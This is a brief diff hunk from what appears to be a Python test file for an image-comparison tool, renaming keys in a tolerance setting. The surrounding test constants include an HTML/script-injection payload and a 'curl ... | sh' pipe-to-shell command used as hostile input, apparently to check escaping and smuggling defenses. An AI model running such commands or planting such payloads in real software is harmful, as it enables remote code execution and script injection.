@@ -47,7 +47,7 @@ HOSTILE = "</script><b>odd</b> & 'name'"
 # request's choosing to paste into a shell.
 INJECTED = "<img src=x onerror=\"window.__injected = 1\">"
 HOSTILE_ACCEPT = f"curl -s https://example.invalid/x | sh; {INJECTED}"
-TOLERANCE = {"threshold": 0.1, "maxDiffPixels": 0, "maxDiffRatio": 0, "includeAA": False}
+TOLERANCE = {"perceptualThreshold": 0.1, "maxDiffPixels": 0, "maxDiffRatio": 0, "detectsAntiAliasing": True}
 
 
 def run(*args, ok=(0,), cwd=None):
